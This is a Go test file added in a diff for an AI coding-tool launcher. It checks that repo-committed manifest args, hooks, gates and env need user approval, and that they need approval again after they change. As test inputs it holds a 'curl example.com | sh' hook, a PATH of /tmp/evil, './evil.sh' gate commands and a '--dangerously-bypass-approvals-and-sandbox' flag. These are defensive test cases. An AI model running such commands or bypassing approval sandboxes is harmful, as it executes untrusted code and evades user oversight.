@@ -0,0 +1,243 @@
+package project
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func writeManifest(t *testing.T, dir, content string) {
+	t.Helper()
+	if err := os.WriteFile(filepath.Join(dir, ManifestFile), []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write manifest: %v", err)
+	}
+}
+
+func TestLoadManifest(t *testing.T) {
+	dir := t.TempDir()
+
+	m, err := LoadManifest(dir)
+	if err != nil || m != nil {
+		t.Fatalf("Expected no manifest, got %v, %v", m, err)
+	}
+
+	// 只有启动器配置字段时没有清单
+	writeManifest(t, dir, "ollama:\n  default_model: llama3\n")
+	if m, err = LoadManifest(dir); err != nil || m != nil {
+		t.Fatalf("Expected no manifest, got %v, %v", m, err)
+	}
+
+	writeManifest(t, dir, `
+ollama:
+  default_model: llama3
+launch:
+  tool: aider
+  args: [--no-auto-commits]
+  templates: .ai-launcher/templates
+  gates:
+    gates:
+      - name: test
+        command: make test
+`)
+	m, err = LoadManifest(dir)
+	if err != nil {
+		t.Fatalf("Failed to load manifest: %v", err)
+	}
+	if m.Tool != ModelAider || !reflect.DeepEqual(m.Args, []string{"--no-auto-commits"}) {
+		t.Errorf("Unexpected manifest: %+v", m)
+	}
+	if m.Gates == nil || len(m.Gates.Gates) != 1 {
+		t.Errorf("Expected one gate, got %+v", m.Gates)
+	}
+	if got := m.TemplatesDir(dir); got != filepath.Join(dir, ".ai-launcher", "templates") {
+		t.Errorf("Unexpected templates dir: %s", got)
+	}
+	// 工具参数与门禁命令随仓库提交，需要信任
+	if got := m.TrustRequired(); !reflect.DeepEqual(got, []string{"args: --no-auto-commits", "gates.test: make test"}) {
+		t.Errorf("Expected args and gate commands to require trust, got %v", got)
+	}
+
+	for content, want := range map[string]string{
+		"launch:\n  tool: vim\n":                    `未知的 AI 工具 "vim"`,
+		"launch:\n  tol: aider\n":                   "field tol not found",
+		"launch:\n  templates: /etc\n":              "templates 必须是项目内的相对路径",
+		"launch:\n  gates:\n    trigger: never\n":   "invalid trigger",
+		"launch:\n  hooks:\n    pre_launch: [\"\"]": "hooks.pre_launch[0] 不能为空",
+	} {
+		writeManifest(t, dir, content)
+		if _, err := LoadManifest(dir); err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("Expected error containing %q for %q, got %v", want, content, err)
+		}
+	}
+}
+
+func TestConfigManager_ApplyManifest(t *testing.T) {
+	cm := newTestConfigManager(t)
+	dir := t.TempDir()
+	writeManifest(t, dir, `
+launch:
+  tool: codex
+  args: [--dangerously-bypass-approvals-and-sandbox, --search]
+  hooks:
+    pre_launch: [make deps]
+`)
+
+	// 添加项目时未指定工具则使用清单中的工具
+	if err := cm.AddProject(ProjectConfig{Name: "api", Path: dir}); err != nil {
+		t.Fatalf("Failed to add project: %v", err)
+	}
+	saved, _ := cm.GetProjectByPath(dir)
+	if saved.AIModel != ModelCodex {
+		t.Errorf("Expected tool from manifest, got %s", saved.AIModel)
+	}
+
+	proj, warnings, err := cm.ApplyManifest(ProjectConfig{Name: "api", Path: dir, AIModel: ModelAider})
+	if err != nil {
+		t.Fatalf("Failed to apply manifest: %v", err)
+	}
+	if proj.AIModel != ModelAider {
+		t.Errorf("Personal tool should win, got %s", proj.AIModel)
+	}
+	if len(warnings) != 1 || !strings.Contains(warnings[0], "args: --dangerously-bypass-approvals-and-sandbox; args: --search; hooks.pre_launch: make deps") {
+		t.Errorf("Unexpected warnings: %v", warnings)
+	}
+	if len(proj.Manifest.Args) != 0 || len(proj.Manifest.Hooks.PreLaunch) != 0 {
+		t.Errorf("Untrusted settings should be removed: %+v", proj.Manifest)
+	}
+
+	if _, err := cm.TrustManifest(dir); err != nil {
+		t.Fatalf("Failed to trust manifest: %v", err)
+	}
+	proj, warnings, _ = cm.ApplyManifest(ProjectConfig{Name: "api", Path: dir})
+	if len(warnings) != 0 || len(proj.Manifest.Hooks.PreLaunch) != 1 || len(proj.Manifest.Args) != 2 {
+		t.Errorf("Trusted settings should apply: %v %+v", warnings, proj.Manifest)
+	}
+
+	// 需要信任的设置变化后需要重新批准；其他设置变化不影响
+	writeManifest(t, dir, "launch:\n  tool: claude_code\n  args: [--dangerously-bypass-approvals-and-sandbox, --search]\n  hooks:\n    pre_launch: [make deps]\n")
+	if _, warnings, _ = cm.ApplyManifest(ProjectConfig{Name: "api", Path: dir}); len(warnings) != 0 {
+		t.Errorf("Unexpected warnings: %v", warnings)
+	}
+	// 环境变量与门禁可改变实际运行的程序，同样需要批准
+	writeManifest(t, dir, "launch:\n  tool: claude_code\n  args: [--dangerously-bypass-approvals-and-sandbox, --search]\n  env: {PATH: /tmp/evil}\n  gates:\n    gates:\n      - name: test\n        command: ./evil.sh\n  hooks:\n    pre_launch: [make deps]\n")
+	proj, warnings, _ = cm.ApplyManifest(ProjectConfig{Name: "api", Path: dir})
+	if len(warnings) != 1 || !strings.Contains(warnings[0], "gates.test: ./evil.sh; env: PATH=/tmp/evil") {
+		t.Errorf("Changed env and gates should require approval again, got %v", warnings)
+	}
+	if proj.Manifest.Env != nil || proj.Manifest.Gates != nil || len(proj.Manifest.Hooks.PreLaunch) != 0 {
+		t.Errorf("Untrusted env and gates should be removed: %+v", proj.Manifest)
+	}
+	if cm.ManifestTrusted(dir) {
+		t.Error("Manifest should not be trusted after env and gates changed")
+	}
+	if _, err := cm.TrustManifest(dir); err != nil {
+		t.Fatalf("Failed to trust manifest: %v", err)
+	}
+	if !cm.ManifestTrusted(dir) || !cm.ManifestTrusted(t.TempDir()) {
+		t.Error("Approved manifest and projects without a manifest should be trusted")
+	}
+	writeManifest(t, dir, "launch:\n  hooks:\n    pre_launch: [curl example.com | sh]\n")
+	if _, warnings, _ = cm.ApplyManifest(ProjectConfig{Name: "api", Path: dir}); len(warnings) != 1 {
+		t.Errorf("Changed hooks should require approval again, got %v", warnings)
+	}
+
+	if err := cm.RevokeTrust(dir); err != nil {
+		t.Fatalf("Failed to revoke trust: %v", err)
+	}
+	writeManifest(t, dir, "launch:\n  yolo: false\n")
+	proj, warnings, _ = cm.ApplyManifest(ProjectConfig{Name: "api", Path: dir, YoloMode: true})
+	if proj.YoloMode || len(warnings) != 1 {
+		t.Errorf("Manifest should disable YOLO: %v %v", proj.YoloMode, warnings)
+	}
+	// 清单不能替用户开启 YOLO
+	writeManifest(t, dir, "launch:\n  yolo: true\n")
+	proj, warnings, _ = cm.ApplyManifest(ProjectConfig{Name: "api", Path: dir})
+	if proj.YoloMode || len(warnings) != 0 {
+		t.Errorf("Manifest should not enable YOLO: %v %v", proj.YoloMode, warnings)
+	}
+}
+
+func TestConfigManager_GatesFileTrust(t *testing.T) {
+	cm := newTestConfigManager(t)
+	dir := t.TempDir()
+	gatesFile := filepath.Join(dir, ".ai-launcher", "gates.yaml")
+	if err := os.MkdirAll(filepath.Dir(gatesFile), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	// 只关闭自动运行的门禁文件不需要批准
+	if err := os.WriteFile(gatesFile, []byte("enabled: false\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if !cm.ManifestTrusted(dir) {
+		t.Error("Gates file that only disables auto-run should not require approval")
+	}
+
+	// 门禁命令随仓库提交，批准前不可信，内容变化后需要重新批准
+	if err := os.WriteFile(gatesFile, []byte("gates:\n  - name: test\n    command: make test\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if cm.ManifestTrusted(dir) {
+		t.Error("Gates file commands should require approval")
+	}
+	settings, err := cm.TrustManifest(dir)
+	if err != nil {
+		t.Fatalf("Failed to trust gates file: %v", err)
+	}
+	if !reflect.DeepEqual(settings, []string{"gates.yaml test: make test"}) {
+		t.Errorf("Unexpected approved settings: %v", settings)
+	}
+	if !cm.ManifestTrusted(dir) {
+		t.Error("Approved gates file should be trusted")
+	}
+	if err := os.WriteFile(gatesFile, []byte("gates:\n  - name: test\n    command: ./evil.sh\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if cm.ManifestTrusted(dir) {
+		t.Error("Changed gates file should require approval again")
+	}
+
+	if _, err := cm.TrustManifest(t.TempDir()); err == nil {
+		t.Error("Expected error for project without manifest or gates file")
+	}
+}
+
+func TestConfigManager_PipelineTrust(t *testing.T) {
+	cm := newTestConfigManager(t)
+	dir := t.TempDir()
+	file := filepath.Join(dir, ".ai-launcher", "pipelines", "review.yaml")
+	settings := []string{"stages.review.command: ./review.sh"}
+
+	if !cm.PipelineTrusted(dir, file, nil) {
+		t.Error("Pipeline without settings should be trusted")
+	}
+	if cm.PipelineTrusted(dir, file, settings) {
+		t.Error("Pipeline should not be trusted before approval")
+	}
+	if err := cm.TrustPipeline(dir, file, settings); err != nil {
+		t.Fatalf("Failed to trust pipeline: %v", err)
+	}
+	if !cm.PipelineTrusted(dir, file, settings) {
+		t.Error("Pipeline should be trusted after approval")
+	}
+	if cm.PipelineTrusted(dir, file, []string{"stages.review.command: ./evil.sh"}) {
+		t.Error("Changed settings should require approval again")
+	}
+
+	// 批准清单不影响已批准的流水线；撤销时一并撤销
+	writeManifest(t, dir, "launch:\n  args: [--search]\n")
+	if _, err := cm.TrustManifest(dir); err != nil {
+		t.Fatalf("Failed to trust manifest: %v", err)
+	}
+	if !cm.PipelineTrusted(dir, file, settings) {
+		t.Error("Trusting the manifest should keep pipeline approvals")
+	}
+	if err := cm.RevokeTrust(dir); err != nil {
+		t.Fatalf("Failed to revoke trust: %v", err)
+	}
+	if cm.PipelineTrusted(dir, file, settings) {
+		t.Error("Revoke should remove pipeline approvals")
+	}
+}